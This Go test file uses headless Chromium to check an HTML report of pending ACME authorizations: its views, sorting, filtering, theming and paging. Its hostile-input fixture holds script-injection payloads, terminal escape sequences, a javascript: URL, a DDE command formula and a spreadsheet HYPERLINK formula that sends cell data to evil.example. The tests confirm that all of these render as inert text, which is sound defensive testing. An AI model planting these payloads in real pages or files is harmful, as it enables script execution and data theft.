@@ -1,0 +1,398 @@
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"html"
+	"image"
+	_ "image/png"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/acmeauthz/acmeauthz/logparse"
+	"github.com/stretchr/testify/require"
+)
+
+// A browser is Chromium without a window. No name leads anywhere in it.
+type browser struct {
+	t    *testing.T
+	path string
+}
+
+// newBrowser skips the test where there is no Chromium, unless REQUIRE_CHROMIUM is set.
+func newBrowser(t *testing.T) *browser {
+	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
+		if path, err := exec.LookPath(name); err == nil {
+			return &browser{t, path}
+		}
+	}
+	if os.Getenv("REQUIRE_CHROMIUM") != "" {
+		t.Fatal("there is no chromium")
+	}
+	t.Skip("there is no chromium")
+	return nil
+}
+
+func (b *browser) run(url string, flags ...string) string {
+	b.t.Helper()
+	args := append([]string{
+		"--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--hide-scrollbars", "--no-first-run",
+		"--disable-background-networking", "--disable-component-update", "--user-data-dir=" + b.t.TempDir(),
+		"--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1", "--virtual-time-budget=20000",
+	}, flags...)
+	cmd := exec.CommandContext(b.t.Context(), b.path, append(args, url)...)
+	cmd.WaitDelay = 5 * time.Second
+	var stderr bytes.Buffer
+	cmd.Stderr = &stderr
+	out, err := cmd.Output()
+	require.NoError(b.t, err, stderr.String())
+	return string(out)
+}
+
+// screenshot returns the picture of a page. With LEAKS_PAGES=DIR it is kept there.
+func (b *browser) screenshot(name, url string, width, height int, flags ...string) image.Image {
+	dir := os.Getenv("LEAKS_PAGES")
+	if dir == "" {
+		dir = b.t.TempDir()
+	}
+	file := filepath.Join(dir, name+".png")
+	b.run(url, append(flags, fmt.Sprintf("--window-size=%d,%d", width, height), "--screenshot="+file)...)
+	f, err := os.Open(file)
+	require.NoError(b.t, err)
+	defer f.Close()
+	picture, _, err := image.Decode(f)
+	require.NoError(b.t, err)
+	return picture
+}
+
+// A site serves a page, and a driver that uses it, and notes what is asked for.
+type site struct {
+	*httptest.Server
+	mu    sync.Mutex
+	asked []string
+}
+
+func newSite(t *testing.T, page []byte, driver string) *site {
+	s := &site{}
+	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		s.mu.Lock()
+		defer s.mu.Unlock()
+		s.asked = append(s.asked, r.URL.Path)
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		switch r.URL.Path {
+		case "/page":
+			_, _ = w.Write(page)
+		case "/drive":
+			fmt.Fprintf(w, "<!DOCTYPE html><link rel=icon href=data:,><iframe id=page width=1200 height=800></iframe><pre id=result></pre><script>%s</script>", driverStart+driver+driverEnd)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	t.Cleanup(s.Close)
+	return s
+}
+
+// The driver loads the page in a frame and does what a test says: go to an
+// address, look, click. What it puts into result is for the test to see.
+const driverStart = `
+const frame = document.getElementById("page"), result = {};
+const wait = ms => new Promise(done => setTimeout(done, ms));
+const load = hash => new Promise(done => { frame.onload = () => done(); frame.src = "about:blank"; setTimeout(() => { frame.src = "/page" + hash; }, 10); })
+  .then(() => wait(50)).then(() => frame.src.endsWith("blank") || frame.contentWindow.location.pathname === "/page" ? wait(100) : wait(500));
+const doc = () => frame.contentDocument;
+const all = selector => [...doc().querySelectorAll(selector)];
+const texts = selector => all(selector).map(e => e.textContent);
+const rows = () => texts("tbody tr.row td:first-child");
+const setHash = async hash => { frame.contentWindow.location.hash = hash; await wait(50); };
+(async () => { try {
+`
+
+const driverEnd = `
+} catch (e) { result.error = String(e && e.stack || e); }
+document.getElementById("result").textContent = JSON.stringify(result); })();
+`
+
+var resultText = regexp.MustCompile(`(?s)<pre id="result">(.*?)</pre>`)
+
+// drive returns what the driver found.
+func (b *browser) drive(page []byte, driver string) (map[string]any, *site) {
+	b.t.Helper()
+	s := newSite(b.t, page, driver)
+	m := resultText.FindStringSubmatch(b.run(s.URL+"/drive", "--dump-dom"))
+	require.NotNil(b.t, m)
+	var result map[string]any
+	require.NoError(b.t, json.Unmarshal([]byte(html.UnescapeString(m[1])), &result), m[1])
+	require.Nil(b.t, result["error"])
+	return result, s
+}
+
+// page runs leaks --html and returns the page.
+func (b *bench) page(args ...string) []byte {
+	b.t.Helper()
+	file := b.path("page.html")
+	r := b.run(append([]string{"--quiet", "leaks", "--html", file}, args...)...)
+	require.Equal(b.t, exitOK, r.code, r.stderr)
+	data, err := os.ReadFile(file)
+	require.NoError(b.t, err)
+	return data
+}
+
+func list2(v any) (all []string) {
+	for _, x := range v.([]any) {
+		all = append(all, x.(string))
+	}
+	return all
+}
+
+// TestPage uses the page of a fleet in a browser: what it shows at first, and by
+// address, sorted, filtered and opened.
+func TestPage(t *testing.T) {
+	chromium := newBrowser(t)
+	b := fleetBench(t)
+	result, _ := chromium.drive(b.page(b.path("fleet")), `
+		await load("");
+		result.headline = texts("h1")[0];
+		result.tiles = texts(".tile b");
+		result.leaked = rows().length;
+		result.verdictChosen = doc().getElementById("verdict").value;
+		await setHash("#verdict=all&sort=identifier&dir=asc");
+		result.sorted = rows();
+		await setHash("#verdict=all&sort=identifier&dir=desc");
+		result.reversed = rows();
+		await setHash("#verdict=leaked&cause=superseded");
+		result.superseded = rows();
+		await setHash("#verdict=all&q=CUSTOMER-0");
+		result.found = rows().length;
+		await setHash("#view=runs&sort=leaked&dir=desc");
+		result.runs = texts("tbody tr.row td:nth-child(4)");
+		await setHash("#view=domains&sort=leaked&dir=desc");
+		result.domains = texts("tbody tr.row td");
+		await setHash("#view=nonsense&sort=nonsense&page=-7&verdict=all");
+		result.nonsense = rows().length;
+
+		await setHash("#verdict=leaked");
+		all("th a")[0].click(); await wait(50);
+		result.clickedSort = frame.contentWindow.location.hash;
+		result.ariaSort = all("th")[0].getAttribute("aria-sort");
+		const box = doc().getElementById("q");
+		box.value = "bad."; box.dispatchEvent(new Event("input")); await wait(400);
+		result.typed = rows();
+		all("tbody tr.row button")[0].click(); await wait(20);
+		result.detail = texts("tr.detail dd");
+		all("tbody tr.row button")[0].click(); await wait(20);
+		result.closed = all("tr.detail").length;
+		const verdict = doc().getElementById("verdict");
+		verdict.value = "valid"; verdict.dispatchEvent(new Event("change")); await wait(50);
+		result.changed = frame.contentWindow.location.hash;
+		await setHash("#verdict=all");
+		result.buckets = all("#chart .bucket").length;
+		all("#chart .bucket")[0].dispatchEvent(new Event("click")); await wait(50);
+		result.bucket = rows().length;
+
+		frame.width = 390; await wait(100);
+		result.overflow = doc().documentElement.scrollWidth - doc().documentElement.clientWidth;
+	`)
+	require.Equal(t, "27 of 40 authorizations were left pending, by 5 runs on 3 hosts.", result["headline"])
+	require.Equal(t, []string{"27", "7", "2", "4"}, list2(result["tiles"]))
+	require.EqualValues(t, 27, result["leaked"])
+	require.Equal(t, "leaked", result["verdictChosen"])
+	sorted := list2(result["sorted"])
+	require.Len(t, sorted, 40)
+	require.IsIncreasing(t, dedupe(sorted))
+	require.IsDecreasing(t, dedupe(list2(result["reversed"])))
+	require.Equal(t, []string{"bad.twice.example.com"}, list2(result["superseded"]))
+	require.EqualValues(t, 9, result["found"])
+	require.Equal(t, []string{"20", "2", "2", "2", "1", "0", "0", "0", "0", "0", "0"}, list2(result["runs"]))
+	require.Equal(t, []string{"example.com", "27", "35"}, list2(result["domains"])[:3])
+	require.EqualValues(t, 40, result["nonsense"])
+	require.Equal(t, "#verdict=leaked&view=authorizations&sort=identifier&dir=asc", result["clickedSort"])
+	require.Equal(t, "ascending", result["ariaSort"])
+	require.Equal(t, []string{"bad.twice.example.com"}, list2(result["typed"]))
+	require.Contains(t, strings.Join(list2(result["detail"]), "\n"), "letsencrypt.log:1563: then asked for 3 names")
+	require.EqualValues(t, 0, result["closed"])
+	require.Contains(t, result["changed"], "verdict=valid")
+	require.Positive(t, result["buckets"])
+	require.Less(t, result["bucket"], float64(40))
+	require.Positive(t, result["bucket"])
+	require.LessOrEqual(t, result["overflow"], float64(0))
+}
+
+func dedupe(sorted []string) (all []string) {
+	for _, s := range sorted {
+		if len(all) == 0 || all[len(all)-1] != s {
+			all = append(all, s)
+		}
+	}
+	return all
+}
+
+// TestPageFile opens the page as a file, as people do, and looks at it in light
+// and dark, wide and narrow.
+func TestPageFile(t *testing.T) {
+	chromium := newBrowser(t)
+	b := fleetBench(t)
+	b.page(b.path("fleet"))
+	url := "file://" + b.path("page.html")
+	dom := chromium.run(url+"#verdict=leaked&sort=identifier&dir=desc", "--dump-dom")
+	require.Equal(t, 27, strings.Count(dom, `<tr class="row">`))
+	require.Less(t, strings.Index(dom, "q2.rl.example.com</button>"), strings.Index(dom, "bad.twice.example.com</button>"))
+
+	light := chromium.screenshot("light", url, 1280, 1100)
+	dark := chromium.screenshot("dark", url, 1280, 1100, "--blink-settings=preferredColorScheme=0")
+	require.Greater(t, brightness(light), 0.8)
+	require.Less(t, brightness(dark), 0.25)
+}
+
+// brightness is that of the corner of a picture, from 0 to 1.
+func brightness(picture image.Image) float64 {
+	r, g, b, _ := picture.At(3, 3).RGBA()
+	return float64(r+g+b) / 3 / 0xffff
+}
+
+// TestHostilePage has a page whose every string wants to be more than text. It
+// stays text, and the page asks for nothing, also if something in it wanted to.
+func TestHostilePage(t *testing.T) {
+	chromium := newBrowser(t)
+	var out bytes.Buffer
+	require.NoError(t, writeLeaksHTML(&out, newLeakReport(hostileHistory())))
+	for _, c := range []string{"\x1b", "\u009b", "\u202e", "\u2028", "<img", "</script><script>window"} {
+		require.False(t, strings.Contains(out.String(), c), "%q", c)
+	}
+	result, s := chromium.drive(out.Bytes(), `
+		await load("#verdict=all");
+		result.rows = rows();
+		for (const b of all("tbody tr.row button")) b.click();
+		await wait(50);
+		result.text = texts("tbody").join("\n");
+		await setHash("#view=runs"); for (const b of all("tbody tr.row button")) b.click();
+		result.runs = texts("tbody").join("\n");
+		await setHash("#view=domains&verdict=all");
+		result.domains = texts("tbody").join("\n");
+		result.elements = all("img, iframe, object, embed, link[rel=stylesheet], base, form[action], body script").map(e => e.tagName);
+		result.pwned = String(frame.contentWindow.pwned);
+		const script = doc().createElement("script"); script.textContent = "window.injected = 1"; doc().body.append(script);
+		result.injected = String(frame.contentWindow.injected);
+		const image = doc().createElement("img"); image.src = "/leak"; doc().body.append(image);
+		result.fetch = await frame.contentWindow.fetch("/leak").then(() => "allowed", () => "refused");
+		await wait(200);
+	`)
+	require.Len(t, list2(result["rows"]), 4)
+	require.Contains(t, result["text"], "</script><script>window.pwned=1</script>")
+	require.Contains(t, result["text"], `\u{1b}[2J`)
+	require.Contains(t, result["text"], `\u{202e}`)
+	require.Contains(t, result["runs"], "<img src=x onerror=window.pwned=1>")
+	require.NotContains(t, result["text"], "\x1b")
+	require.Equal(t, []string{"SCRIPT", "SCRIPT"}, list2(result["elements"]), "the report and the program")
+	require.Equal(t, "undefined", result["pwned"])
+	require.Equal(t, "undefined", result["injected"])
+	require.Equal(t, "refused", result["fetch"])
+	require.Equal(t, []string{"/drive", "/page"}, s.asked)
+}
+
+// TestLargePage has ten thousand authorizations over half a year, a hundred of
+// which are in the document at a time.
+func TestLargePage(t *testing.T) {
+	chromium := newBrowser(t)
+	var out bytes.Buffer
+	require.NoError(t, writeLeaksHTML(&out, newLeakReport(largeHistory(10_000))))
+	if dir := os.Getenv("LEAKS_PAGES"); dir != "" {
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "large.html"), out.Bytes(), 0o600))
+	}
+	result, _ := chromium.drive(out.Bytes(), `
+		await load("#verdict=all&sort=identifier&dir=asc");
+		result.rows = rows().length;
+		result.first = rows()[0];
+		result.chips = texts("#chips")[0];
+		await setHash("#verdict=all&sort=identifier&dir=asc&page=100");
+		result.last = rows()[99];
+		result.pages = texts("#pages")[0];
+		const start = frame.contentWindow.performance.now();
+		await setHash("#verdict=all&q=name-09999");
+		result.found = rows();
+		result.buckets = all("#chart .bucket").length;
+	`)
+	require.EqualValues(t, 100, result["rows"])
+	require.Equal(t, "name-00000.d000.example", result["first"])
+	require.Equal(t, "1 to 100 of 10000", result["chips"])
+	require.Equal(t, "name-09999.d099.example", result["last"])
+	require.Equal(t, "page 100 of 100← previous", result["pages"])
+	require.Equal(t, []string{"name-09999.d099.example"}, list2(result["found"]))
+	require.Greater(t, result["buckets"], 5.0)
+}
+
+// largeHistory has n authorizations of many hosts and runs over half a year.
+func largeHistory(n int) *logparse.History {
+	h := &logparse.History{At: recordedAt}
+	start := recordedAt.AddDate(0, -6, 0)
+	for i := range n {
+		at := start.Add(time.Duration(i) * 26 * time.Minute)
+		host := fmt.Sprintf("web%02d", i/50%20)
+		run := logparse.Place{File: host + "/letsencrypt.log", Line: int64(i/5*100 + 1)}
+		e := logparse.Event{
+			Place: run, Run: run, Time: at, Client: "certbot", Host: host, Kind: logparse.RunStarted, Version: "2.1.0",
+			Command: fmt.Sprintf("certonly -d name-%05d.d%03d.example", i, i%100),
+		}
+		h.Add(e)
+		url := fmt.Sprintf("https://ca.test/acme/authz/1/%d", i)
+		id := logparse.Identifier{Type: "dns", Value: fmt.Sprintf("name-%05d.d%03d.example", i, i%100)}
+		e.Kind, e.Line = logparse.OrderSeen, e.Line+1
+		e.Order = &logparse.Order{ID: url + "/order", URL: url + "/order", Status: "pending", Identifiers: []logparse.Identifier{id}, Authorizations: []string{url}}
+		h.Add(e)
+		e.Kind, e.Line, e.Order = logparse.AuthorizationSeen, e.Line+1, nil
+		e.Authorization = &logparse.Authorization{URL: url, Order: url + "/order", Identifier: id, Status: "pending", Expires: recordedAt.AddDate(0, 0, 7)}
+		h.Add(e)
+		if i%7 != 0 {
+			e.Kind, e.Line, e.Challenge = logparse.ChallengeAnswered, e.Line+1, &logparse.Challenge{Type: "http-01"}
+			h.Add(e)
+			status := *e.Authorization
+			status.Status = []string{"valid", "valid", "valid", "invalid"}[i%4]
+			e.Kind, e.Line, e.Authorization, e.Challenge = logparse.AuthorizationSeen, e.Line+1, &status, nil
+			h.Add(e)
+		}
+	}
+	return h
+}
+
+// hostileHistory has strings that want to be markup, script, formulas, or orders
+// to a terminal.
+func hostileHistory() *logparse.History {
+	h := &logparse.History{At: recordedAt}
+	at := recordedAt.Add(-5 * time.Hour)
+	for i, name := range []string{
+		"</script><script>window.pwned=1</script>",
+		"\x1b[2J\x1b]0;owned\x07\u202eevil.example\u2028\u009b31m",
+		`=HYPERLINK("http://evil.example/?"&A1,"x")`,
+		"\xff\xfe\"><img src=/leak onerror=window.pwned=1>,\r\n@SUM(1)",
+	} {
+		run := logparse.Place{File: "=cmd|' /C calc'!A0/\x1b[31m.log", Line: int64(i*10 + 1)}
+		e := logparse.Event{
+			Place: run, Run: run, Time: at, Client: "+certbot", Host: "-host<b>", Kind: logparse.RunStarted, Version: "\x1b[5m",
+			Command: "<img src=x onerror=window.pwned=1> \x1b[31m </script>",
+		}
+		h.Add(e)
+		url := fmt.Sprintf("https://ca.test/acme/authz/1/%d", i)
+		id := logparse.Identifier{Type: "dns", Value: name}
+		e.Kind, e.Line = logparse.OrderSeen, e.Line+1
+		e.Order = &logparse.Order{ID: url + "/o", URL: "javascript:window.pwned=1", Identifiers: []logparse.Identifier{id}, Authorizations: []string{url}}
+		h.Add(e)
+		e.Kind, e.Line, e.Order = logparse.AuthorizationSeen, e.Line+1, nil
+		e.Authorization = &logparse.Authorization{URL: url, Order: url + "/o", Identifier: id, Status: "pending"}
+		h.Add(e)
+		e.Kind, e.Line, e.Authorization = logparse.FailureSeen, e.Line+1, nil
+		e.Cause, e.Message = logparse.Cause("<b>odd\x1b[0m"), "@message </script> \x1b[2J {{.}}"
+		h.Add(e)
+		e.Kind, e.Line, e.Cause, e.Exit = logparse.RunEnded, e.Line+1, "", "=exit"
+		h.Add(e)
+		h.Add(logparse.Event{Kind: logparse.LinesUnrecognized, Place: logparse.Place{File: "\x1b[1m", Line: 1}, Lines: 2})
+	}
+	return h
+}
